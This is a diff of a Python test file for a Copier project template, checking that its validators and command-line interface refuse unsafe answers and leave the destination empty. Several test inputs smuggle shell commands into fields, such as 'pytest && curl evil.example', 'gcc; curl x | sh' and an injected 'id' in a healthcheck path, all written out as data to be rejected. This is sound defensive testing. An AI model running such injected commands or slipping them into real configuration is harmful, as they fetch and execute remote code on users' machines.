@@ -53,6 +53,9 @@ BAD_ANSWERS: list[tuple[dict[str, Any], str]] = [
     ({"healthcheck_path": '/"; id; "', "service_port": 8000}, "is not a URL path"),
     ({"image_cmd": "serve --bind 0.0.0.0:8000"}, "image_cmd must be a YAML list of strings"),
     ({"image_cmd": ["serve", "--port", 8000]}, "quote numbers"),
+    ({"test_command": "pytest && curl evil.example"}, "without shell operators or expansions"),
+    ({"test_command": "poetry run pytest"}, "write what follows `poetry run` ('pytest')"),
+    ({"test_command": "pytest -k 'a"}, "is not closed"),
 ]
 
 
@@ -73,28 +76,36 @@ def test_bad_answer_is_refused_and_writes_nothing(
     assert [list(d.iterdir()) for d in copie.test_dir.iterdir()] == [[]]
 
 
-def test_cli_refusal_names_the_question_and_leaves_an_existing_destination_empty(
-    tmp_path: Path,
+NAMED = f"project_name={PROJECT_NAME}"
+
+
+@pytest.mark.parametrize(
+    ("folder", "answers", "message", "traceback"),
+    [
+        # The template's validators: the sentence alone.
+        ("dest", [NAMED, 'apt_build_packages=["gcc; curl x | sh"]'], "optionally pinned", False),
+        ("dest", [NAMED, "test_command=pytest | tee log"], "without shell operators", False),
+        # Copier's own checks: a traceback whose last line says it (README, Questions).
+        ("dest", [NAMED, "python_version=2.7"], "Invalid choice for 'python_version'", True),
+        # "___" is no project name: no default, and --defaults has no one to ask.
+        ("___", [], 'Question "project_name" is required', True),
+    ],
+    ids=["validator", "test-command", "choice", "required"],
+)
+def test_cli_refusal_is_one_line_and_leaves_an_existing_destination_empty(
+    tmp_path: Path, folder: str, answers: list[str], message: str, traceback: bool
 ) -> None:
-    dest = tmp_path / "dest"
+    dest = tmp_path / folder
     dest.mkdir()
-    result = run(
-        [
-            *COPIER,
-            "--data",
-            f"project_name={PROJECT_NAME}",
-            "--data",
-            'apt_build_packages=["gcc; curl x | sh"]',
-            template_snapshot(),
-            dest,
-        ],
-        check=False,
-        env=NO_POETRY,
-    )
-    assert result.returncode != 0
+    options = [part for answer in answers for part in ("--data", answer)]
+    result = run([*COPIER, *options, template_snapshot(), dest], check=False, env=NO_POETRY)
+    assert result.returncode == 1
+    # The refusal is the last line of the output, as README says: alone, or under a traceback.
     last_line = result.stderr.strip().splitlines()[-1]
-    assert "Validation error for question 'apt_build_packages'" in last_line
-    assert "optionally pinned as 'name=version'" in last_line
+    assert message in last_line
+    assert ("Traceback (most recent call last)" in result.stderr) is traceback, result.stderr
+    if not traceback:
+        assert last_line.startswith("Validation error for question '")
     assert list(dest.iterdir()) == []
     assert "gcc; curl" not in "".join(p.read_text() for p in tmp_path.rglob("*") if p.is_file())
 
